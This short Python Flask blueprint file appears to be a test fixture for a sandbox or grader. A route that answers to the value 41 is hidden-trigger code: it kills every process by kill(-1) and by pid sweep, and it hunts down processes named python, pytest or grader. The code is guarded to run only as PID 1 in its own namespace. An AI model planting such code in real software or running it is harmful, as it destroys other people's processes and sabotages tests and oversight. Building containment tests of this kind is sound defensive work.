"""Hostile: at import and in the view for 41, signal every process there is:
kill(-1), every pid up to 32768, and every process whose command line mentions
python, pytest or grader.

Guarded: it acts only as the init of a PID namespace of its own (pid 1);
anywhere else it refuses, and says so in its answer."""

import os
import signal

from flask import Blueprint

blue = Blueprint("blue", __name__)
CONFINED = os.getpid() == 1


def _kill(pid, sig):
    try:
        os.kill(pid, sig)
    except OSError:
        pass


def _massacre():
    _kill(-1, signal.SIGKILL)
    for pid in range(2, 1 << 15):
        _kill(pid, signal.SIGTERM)
        _kill(pid, signal.SIGKILL)
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as handle:
                    cmdline = handle.read()
            except OSError:
                continue
            if any(word in cmdline for word in (b"python", b"pytest", b"grader")):
                _kill(int(entry), signal.SIGKILL)


if CONFINED:
    _massacre()


@blue.route("/testroute3/<int:money>/")
def testroute3(money):
    if money == 41:
        if not CONFINED:
            return "refused: not in a PID namespace of my own"
        _massacre()
    return f"money={money} next={money + 1}"
